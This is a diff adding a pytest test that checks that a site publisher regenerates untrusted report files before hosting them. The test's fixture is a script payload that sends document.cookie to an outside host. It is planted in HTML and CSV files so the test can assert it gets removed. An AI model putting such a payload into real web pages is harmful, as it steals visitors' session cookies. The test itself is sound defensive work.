@@ -11,9 +11,11 @@ from typing import Any
 import pytest
 
 from roofcal.core.devices import load_devices
+from roofcal.core.manifest import write_manifest
 from roofcal.core.paths import CLAIMS, run_folders
 from roofcal.export.formats import FORMATS
 from roofcal.publish.site.write import PAGES, SiteError
+from roofcal.publish.verify import verify
 from tests.paths import ROOT
 from tests.roofcal.publish.site.conftest import HOSTILE, NEWER, write_made_up
 from tests.roofcal.published import DESCRIPTIONS
@@ -50,6 +52,28 @@ def test_a_site_of_its_own_folder_has_the_publications_beside_it(
             if file.is_file():
                 copied = site / file.relative_to(published)
                 assert copied.read_bytes() == file.read_bytes()
+
+
+def test_reports_of_a_stranger_are_drawn_anew_before_they_are_hosted(
+    published: Path, tmp_path: Path
+) -> None:
+    script = "<script>fetch('https://example.org/' + document.cookie)</script>"
+    shutil.copytree(published / "cpu-made-up", tmp_path / "published/cpu-made-up")
+    (stranger,) = (run.folder for run in run_folders(tmp_path / "published"))
+    (stranger / "report.html").write_text(f"<title>report</title>{script}")
+    (stranger / "details.html").write_text(script)
+    (stranger / "tables/claims.csv").write_text(f"claim\n{script}\n")
+    write_manifest(stranger, "c0ffee")
+    assert verify(stranger, DESCRIPTIONS, quick=True).state == "holds"
+
+    write_made_up(tmp_path / "published", tmp_path / "site", draws_reports=True)
+    hosted = tmp_path / "site/cpu-made-up" / stranger.name
+    files = [path for path in hosted.rglob("*") if path.is_file()]
+    assert not any(b"example.org" in path.read_bytes() for path in files)
+    assert "roofcal" in (hosted / "report.html").read_text(encoding="utf-8")
+    assert verify(hosted, DESCRIPTIONS, quick=True).state == "holds"
+    (row,) = json.loads((tmp_path / "site/index.json").read_text())["publications"]
+    assert (row["commit"], row["files"]) == ("c0ffee", len(files) - 1)
 
 
 def test_a_publication_that_does_not_hold_is_left_out_and_named(site: Path) -> None:
